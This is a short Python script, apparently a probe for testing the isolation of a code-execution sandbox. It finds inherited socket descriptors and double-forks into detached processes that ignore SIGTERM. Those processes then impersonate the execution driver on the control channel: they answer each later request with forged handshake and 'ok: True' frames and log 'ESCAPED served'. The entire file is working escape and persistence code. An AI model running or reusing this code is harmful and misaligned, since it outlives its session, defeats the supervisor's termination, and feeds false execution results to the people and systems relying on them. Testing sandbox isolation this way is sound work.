# Stay behind on the control channel and serve the next request in somebody's name.
import json
import os
import signal
import socket
import stat
import struct

channels = []
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            channels.append(fd)
    except OSError:
        pass


def frame(kind, payload):
    text = json.dumps(payload).encode()
    return struct.pack(">I", len(text)) + kind + text


def serve(fd):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    channel = socket.socket(fileno=fd)
    while request := channel.recv(65536):
        os.write(1, b"ESCAPED served " + request[:80].replace(b"\n", b" ") + b"\n")
        channel.sendall(frame(b"H", {"protocol": 1, "driver": "forged", "language": "python", "features": []}))
        channel.sendall(frame(b"Z", {"execution": "", "ok": True}))


print("CHANNELS", len(channels), flush=True)
for fd in channels:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                serve(fd)
            finally:
                os._exit(0)
        os._exit(0)
